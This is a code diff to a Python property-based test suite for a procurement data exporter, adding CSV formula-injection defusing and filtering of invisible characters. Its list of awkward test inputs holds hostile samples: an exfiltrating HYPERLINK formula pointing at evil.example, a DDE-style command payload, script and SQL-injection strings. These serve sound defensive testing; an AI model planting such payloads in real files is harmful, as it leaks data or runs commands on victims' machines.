@@ -12,6 +12,7 @@ from __future__ import annotations
 import csv
 import io
 import json
+import re
 import shutil
 import sqlite3
 import sys
@@ -67,14 +68,20 @@ AWKWARD = ['<script>alert("x")</script>', "Tom & Jerry's <b>bold</b>", 'a "quote
            "😀🚀🇬🇧", "{{ jinja }} {% raw %}", "# not a comment", "- not a list", "key: value", "yes", "null", "~",
            "0o17", "1e3", "0x1F", "2025-01-01", " padded ", "tab\there", "crlf\r\nend", "“smart” ‘quotes’ — dash",
            "comma, semicolon; pipe|", "back\\slash", "'; DROP TABLE awards; --", "&amp; &lt;", "\u2028\u2029\x85",
-           "\u00a0nbsp", "RTL \u202eevil", "zero\u200bwidth"]
+           "\u00a0nbsp", "RTL \u202eevil", "zero\u200bwidth",
+           '=HYPERLINK("https://evil.example/?"&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+44 20", "-2+3"]
 _ANY_CHAR = st.characters(codec="utf-8")  # every code point a UTF-8 file can hold (no lone surrogates)
+# control characters but tab and new line, U+FFFE/U+FFFF, and invisible characters (refused in names; bidi
+# overrides everywhere): a valid register cannot hold them, so the generator leaves them out
+_REFUSED = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\ufffe\uffff\u200b-\u200f\u2060-\u2064\ufeff\u061c\u00ad"
+                      "\u180e\u202a-\u202e\u2066-\u2069]")
 
 
 def text(min_size: int = 1, max_size: int = 60) -> st.SearchStrategy[str]:
     pieces = st.lists(st.one_of(st.text(_ANY_CHAR, max_size=10), st.sampled_from(AWKWARD)), min_size=1, max_size=4)
 
     def fit(value: str) -> str:
+        value = _REFUSED.sub("", value)  # what the validator refuses in text (tested in tests/cases/invalid/)
         if len(value) < min_size:
             value += "abc"[: min_size - len(value)]
         return value[:max_size]
@@ -147,7 +154,7 @@ def registers(draw: st.DrawFn) -> dict[str, list[dict[str, Any]]]:
         "cpv": draw(st.lists(st.from_regex(r"\A[0-9]{8}\Z"), min_size=1, max_size=3, unique=True)),
         "published": draw(DATES).isoformat()}
     optional(tender, draw, description=text(), procurement_method_details=text(1, 300),
-             value=st.fixed_dictionaries({"amount": number(1e9), "currency": codes("currency")}),
+             value=st.fixed_dictionaries({"amount": number(1e15), "currency": codes("currency")}),
              tender_period=periods(), social_value_themes=st.lists(codes("sv_theme"), max_size=3, unique=True),
              documents=st.lists(st.fixed_dictionaries({"title": text(3, 300), "url": URLS}), min_size=1, max_size=2),
              notices=st.lists(st.fixed_dictionaries({"type": codes("notice_type"), "id": text(1, 200)}),
@@ -157,7 +164,7 @@ def registers(draw: st.DrawFn) -> dict[str, list[dict[str, Any]]]:
     award: dict[str, Any] = {
         "id": award_id, "buyer": buyer_id, "title": draw(text(3, 300)), "status": draw(codes("award_status")),
         "date": draw(DATES).isoformat(),
-        "value": {"amount": draw(number(1e9)), "currency": draw(codes("currency"))}, "suppliers": [supplier_id]}
+        "value": {"amount": draw(number(1e15)), "currency": draw(codes("currency"))}, "suppliers": [supplier_id]}
     if draw(st.booleans()):
         award["tender"] = tender_id
     if contract:
@@ -258,14 +265,21 @@ def flat_columns(record: dict[str, Any], prefix: str = "") -> dict[str, Any]:
 
 
 def csv_text(value: Any) -> str:
-    """A value as a CSV cell: lists of codes joined with ';', lists of objects as compact JSON, true/false."""
+    """A value as a CSV cell: lists of codes joined with ';', lists of objects as compact JSON, true/false; text a
+    spreadsheet would run as a formula (starting =, +, -, @, tab or carriage return) gets a leading '."""
     if isinstance(value, list):
         if value and isinstance(value[0], dict):
             return json.dumps(value, ensure_ascii=False, separators=(",", ":"))
-        return ";".join(str(v) for v in value)
+        return defused(";".join(str(v) for v in value))
     if isinstance(value, bool):
         return "true" if value else "false"
+    if isinstance(value, str):
+        return defused(value)
     return repr(value) if isinstance(value, float) else str(value)
+
+
+def defused(text: str) -> str:
+    return "'" + text if text[:1] in ("=", "+", "-", "@", "\t", "\r") and text else text
 
 
 def sqlite_value(value: Any) -> Any:
@@ -415,6 +429,8 @@ def test_the_flattening_is_what_the_format_promises() -> None:
                     "docs": [{"title": "é,\"", "url": "u"}]}
     assert [csv_text(v) for v in flat.values()] == ["A", "5", "GBP", "1;2", "true", "0.5",
                                                     '[{"title":"é,\\"","url":"u"}]']
+    assert [csv_text(v) for v in ("=1+1", "+44", "-x", "@SUM(A1)", "\tx", "\rx", "a=b", "", ["=a", "b"])] == [
+        "'=1+1", "'+44", "'-x", "'@SUM(A1)", "'\tx", "'\rx", "a=b", "", "'=a;b"]
     assert [sqlite_value(v) for v in flat.values()] == ["A", 5, "GBP", '["1","2"]', 1, 0.5,
                                                         '[{"title":"é,\\"","url":"u"}]']
     assert not same(5, 5.0) and same({"a": [1]}, {"a": [1]})
